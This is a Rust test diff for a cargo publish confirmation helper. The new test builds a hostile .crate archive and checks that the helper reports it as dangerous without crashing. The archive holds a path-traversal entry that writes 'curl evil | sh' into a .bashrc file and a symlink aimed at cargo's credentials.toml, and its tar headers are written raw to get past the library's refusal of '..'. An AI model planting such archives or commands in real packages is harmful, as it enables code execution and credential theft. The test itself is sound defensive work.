@@ -135,3 +135,94 @@ fn a_checksum_that_does_not_match_the_packaged_file_cannot_be_approved_even_by_a
     assert!(e.starts_with("CHECKSUM MISMATCH with "), "{e}");
     assert!(e.contains("/tx-forged-0.1.0.crate"), "{e}");
 }
+
+/// A hostile `.crate` whose checksum does match: the real helper lists it with bounded work,
+/// shows each problem in red, and neither crashes nor hangs.
+#[test]
+fn a_hostile_archive_with_a_matching_checksum_is_shown_as_dangerous_not_a_crash() {
+    use sha2::Digest;
+    let _g = gui_lock();
+    let p = Project::enrolled("tx-hostile", TOKEN, &[]);
+    let mut b = tar::Builder::new(Vec::new());
+    let mut add = |name: &str, ty: tar::EntryType, data: &[u8], link: &[u8]| {
+        let mut h = tar::Header::new_gnu();
+        // Written raw: tar::Builder refuses `..` in paths, an attacker's tool does not.
+        h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
+        h.as_old_mut().linkname[..link.len()].copy_from_slice(link);
+        h.set_entry_type(ty);
+        h.set_mode(0o644);
+        h.set_size(data.len() as u64);
+        h.set_cksum();
+        b.append(&h, data).unwrap();
+    };
+    add(
+        "tx-hostile-0.1.0/Cargo.toml",
+        tar::EntryType::Regular,
+        b"[package]\nname = \"tx-hostile\"\n",
+        b"",
+    );
+    add(
+        "tx-hostile-0.1.0/../../../home/.bashrc",
+        tar::EntryType::Regular,
+        b"curl evil | sh",
+        b"",
+    );
+    add(
+        "tx-hostile-0.1.0/src/lib.rs",
+        tar::EntryType::Symlink,
+        b"",
+        b"/home/you/.cargo/credentials.toml",
+    );
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    gz.write_all(&b.into_inner().unwrap()).unwrap();
+    // Garbage after the archive is part of the upload, and of the hash.
+    let mut bytes = gz.finish().unwrap();
+    bytes.extend_from_slice(&[0xff; 4096]);
+    let file = p.dir.join("target/package/tx-hostile-0.1.0.crate");
+    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+    std::fs::write(&file, &bytes).unwrap();
+    let cksum: String = sha2::Sha256::digest(&bytes)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+
+    let mut child = p
+        .provider()
+        .arg("--cargo-plugin")
+        .env("CARGO_TARGET_DIR", p.dir.join("target"))
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    writeln!(
+        stdin,
+        r#"{{"v":1,"registry":{{"index-url":"{}","name":"local"}},"kind":"get","operation":"publish","name":"tx-hostile","vers":"0.1.0","cksum":"{cksum}"}}"#,
+        p.registry.index_url(),
+    )
+    .unwrap();
+    let (_, g) = window_for(&mut child, "cargo-confirm-gui");
+    wait_armed();
+    let (x, y) = deny_point(g);
+    desk().human_click(x, y);
+    drop(stdin);
+    let (status, out, err) = wait_output(child, Duration::from_secs(60));
+    assert!(status.success(), "the helper crashed: {err}");
+    assert!(out.contains("denied in the confirmation window"), "{out}");
+    let e = evidence(&p);
+    assert!(
+        e.starts_with(&format!("crate file verified: {}", file.display())),
+        "{e}"
+    );
+    assert!(
+        e.contains(
+            "DANGER: tx-hostile-0.1.0/../../../home/.bashrc tries to escape the unpack directory"
+        ),
+        "{e}"
+    );
+    assert!(
+        e.contains("DANGER: src/lib.rs is a link to /home/you/.cargo/credentials.toml"),
+        "{e}"
+    );
+}
